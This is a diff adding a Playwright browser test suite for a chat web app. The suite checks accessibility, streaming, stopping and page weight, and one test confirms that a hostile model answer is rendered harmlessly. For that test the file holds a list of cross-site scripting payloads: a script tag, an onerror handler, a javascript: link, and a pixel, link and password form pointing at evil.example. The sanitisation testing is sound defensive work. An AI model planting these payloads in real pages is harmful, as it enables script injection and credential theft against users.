@@ -1,0 +1,177 @@
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { startTestApp, type TestApp } from '../support/app';
+import { addUser, signIn } from '../support/people';
+import { type Simulator, startSimulator } from '../support/simulator';
+import { describeWithBrowser, launchBrowser, themes, widths, withPage } from './browser';
+import { checkPage, noFaults } from './page-gate';
+
+const viewings = themes.flatMap((theme) => widths.map((width) => ({ theme, width })));
+const desk = { theme: 'light', width: 1280 } as const;
+
+/** What a model may write that would harm a page which trusts it. */
+const hostile = [
+  'Look:',
+  '<script>window.harmed = 1</script>',
+  '<img src=x onerror="window.harmed = 2">',
+  '[a link](javascript:window.harmed=3)',
+  '[another](https://evil.example/steal?q=1)',
+  '![a picture](https://evil.example/pixel.png)',
+  '<form action=https://evil.example><input name=password></form>',
+  '<style>body { display: none }</style>',
+  '`const safe = "<b>";`',
+].join(' ');
+
+describeWithBrowser('the chat in a real browser', () => {
+  let browser: Browser;
+  let app: TestApp;
+  let supplier: Simulator;
+  let cookie: string;
+
+  beforeAll(async () => {
+    supplier = await startSimulator();
+    [browser, app] = await Promise.all([
+      launchBrowser(),
+      startTestApp({
+        sandboxUrl: supplier.url,
+        environment: { NODE_ENV: 'development', LOG_LEVEL: 'error' },
+      }),
+    ]);
+    cookie = await signIn(app, await addUser(app));
+  }, 60_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await app?.close();
+    await supplier?.stop();
+  });
+
+  const enter = (context: BrowserContext): Promise<void> => {
+    const [name = '', value = ''] = cookie.split('=');
+    return context.addCookies([{ name, value, url: app.url }]);
+  };
+  const post = async (path: string, body: object): Promise<Record<string, unknown>> => {
+    const response = await fetch(app.url + path, {
+      method: 'POST',
+      headers: { cookie, 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' },
+      body: JSON.stringify(body),
+    });
+    return (await response.json()) as Record<string, unknown>;
+  };
+  const begin = async (): Promise<string> => {
+    const { id } = await post('/api/conversations', { model: 'sim-small' });
+    return `/dashboard/webchat/${String(id)}`;
+  };
+  const say = async (thread: string, content: string): Promise<void> => {
+    await post(`/api/chat/${thread.split('/').at(-1) ?? ''}`, { content });
+  };
+  const inThread = (thread: string, look: (page: Page, context: BrowserContext) => Promise<void>) =>
+    withPage(browser, desk, async (page, context) => {
+      await enter(context);
+      await page.goto(app.url + thread, { waitUntil: 'load' });
+      await look(page, context);
+    });
+
+  describe.each(viewings)('$theme, $width px', (viewing) => {
+    test('its pages are accessible, obey the policy and fit', async () => {
+      const thread = await begin();
+      await say(
+        thread,
+        `Please answer with a long-word-${'x'.repeat(80)} [[echo=**Bold** \`code\` and a list]]`,
+      );
+      for (const path of ['/dashboard/webchat', thread]) {
+        const faults = await withPage(browser, viewing, async (page, context) => {
+          await enter(context);
+          const found = await checkPage(page, app.url + path);
+          const folder = process.env.SCREENSHOTS;
+          const name = `${path === thread ? 'thread' : 'start'}-${viewing.theme}-${viewing.width}`;
+          if (folder !== undefined) await page.screenshot({ path: `${folder}/${name}.png`, fullPage: true });
+          return found;
+        });
+        expect(faults).toEqual(noFaults);
+      }
+    }, 60_000);
+  });
+
+  test('a turn by keyboard: it is sent, drawn as it comes, and ends with its cost, said once', async () => {
+    await inThread(await begin(), async (page) => {
+      await page.focus('#chat-message');
+      await page.keyboard.type('Hello [[echo=**well** met]]');
+      await page.keyboard.press('Control+Enter');
+      await page.waitForSelector('.message-assistant .message-foot span:not(.route)');
+      expect(await page.locator('#chat-log .message-assistant strong').innerText()).toBe('well');
+      expect(await page.locator('#chat-log .message-assistant .message-foot').innerText()).toMatch(
+        /tokens?\s*\$0/,
+      );
+      expect(await page.locator('#chat-log').getAttribute('aria-live')).toBe('off');
+      expect(await page.locator('#chat-log').getAttribute('aria-busy')).toBe('false');
+      expect(await page.locator('#announcer').innerText()).toBe('Answer complete');
+      expect(await page.evaluate('document.activeElement.id')).toBe('chat-message');
+      await page.reload();
+      expect(await page.locator('#chat-log .message-assistant strong').innerText()).toBe('well');
+    });
+  }, 60_000);
+
+  test('Escape stops: what came stays, marked and charged, and can be asked again', async () => {
+    await inThread(await begin(), async (page) => {
+      await page.fill('#chat-message', 'Slow [[tokens=60]] [[pace=60]]');
+      await page.click('#chat-send');
+      await page.waitForSelector('#chat-log .message-assistant [data-said] p');
+      expect(await page.isVisible('#chat-stop')).toBe(true);
+      await page.keyboard.press('Escape');
+      await page.waitForSelector('#chat-send:not([hidden])');
+      await page.waitForSelector('#chat-log .message-assistant .badge:has-text("stopped")');
+      expect(await page.locator('#chat-log .message-assistant .message-foot').innerText()).toContain('$0');
+      await page.click('#chat-retry button');
+      await page.locator('#chat-log .message-assistant').nth(1).waitFor();
+      await page.keyboard.press('Escape');
+      await page.waitForSelector('#chat-send:not([hidden])');
+    });
+  }, 60_000);
+
+  test('a hostile answer harms nothing, loads nothing, and is still readable', async () => {
+    const thread = await begin();
+    await inThread(thread, async (page) => {
+      const foreign: string[] = [];
+      const complaints: string[] = [];
+      page.on('request', (request) => {
+        if (!request.url().startsWith(app.url) && !request.url().startsWith('data:'))
+          foreign.push(request.url());
+      });
+      page.on('console', (message) => {
+        if (message.type() === 'error') complaints.push(message.text());
+      });
+      await page.fill('#chat-message', `Be evil [[echo=${hostile}]]`);
+      await page.click('#chat-send');
+      await page.waitForSelector('#chat-log .message-assistant [data-said] code');
+      await page.waitForSelector('#chat-send:not([hidden])');
+      const said = page.locator('#chat-log .message-assistant [data-said]');
+      expect(await page.evaluate('window.harmed')).toBeUndefined();
+      expect(await said.locator('script, img, form, input, style, svg:not(.icon), iframe').count()).toBe(0);
+      expect(await said.locator('a').count()).toBe(1);
+      const link = said.locator('a');
+      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
+      expect(await link.innerText()).toContain('evil.example');
+      expect(await said.innerText()).toContain('<script>window.harmed = 1</script>');
+      expect(await said.locator('code').innerText()).toContain('const safe = "<b>";');
+      await page.reload();
+      expect(await page.evaluate('window.harmed')).toBeUndefined();
+      expect(await said.locator('script, img, form, input, style, iframe').count()).toBe(0);
+      expect([foreign, complaints]).toEqual([[], []]);
+    });
+  }, 60_000);
+
+  test('the page loads at most 60 KB of scripts and styles, compressed', async () => {
+    const thread = await begin();
+    const { gzipSync } = await import('node:zlib');
+    await inThread(thread, async (page) => {
+      const addresses = await page.evaluate<string[]>(
+        `[...document.querySelectorAll('script[src], link[rel=stylesheet]')].map((part) => part.src || part.href)`,
+      );
+      let bytes = 0;
+      for (const address of addresses)
+        bytes += gzipSync(Buffer.from(await (await fetch(address)).arrayBuffer())).length;
+      expect(addresses.length).toBeGreaterThan(5);
+      expect(bytes).toBeLessThan(60_000);
+    });
+  }, 60_000);
+});
